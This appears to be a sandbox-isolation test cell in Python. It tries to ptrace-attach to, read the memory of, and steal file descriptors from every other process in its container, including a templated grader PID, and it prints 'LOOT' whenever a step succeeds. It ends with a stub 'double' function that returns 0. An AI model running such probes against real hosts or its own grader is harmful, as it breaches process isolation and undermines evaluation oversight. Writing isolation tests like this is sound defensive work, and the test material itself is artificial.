"""Attaches to the other processes of its box as a debugger, reads their memory, and takes their descriptors.

Must happen: none of it is allowed.
"""

# %% q1
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
own = os.getpid()
for pid in [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != own] + [int("@GRADER@")]:
    for request in (16, 0x4206):
        if libc.ptrace(request, pid, None, None) == 0:
            print("LOOT", "ptrace of", pid)
            libc.ptrace(17, pid, None, None)
    buffer = ctypes.create_string_buffer(8)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    there = (ctypes.c_size_t * 2)(id(None), 8)
    if libc.process_vm_readv(pid, here, 1, there, 1, 0) > 0:
        print("LOOT", "memory of", pid)
    try:
        handle = os.pidfd_open(pid)
    except OSError:
        continue
    for descriptor in range(3, 12):
        if libc.syscall(438, handle, descriptor, 0) >= 0:
            print("LOOT", "descriptor", descriptor, "of", pid)
print("tried")

def double(number):
    return 0
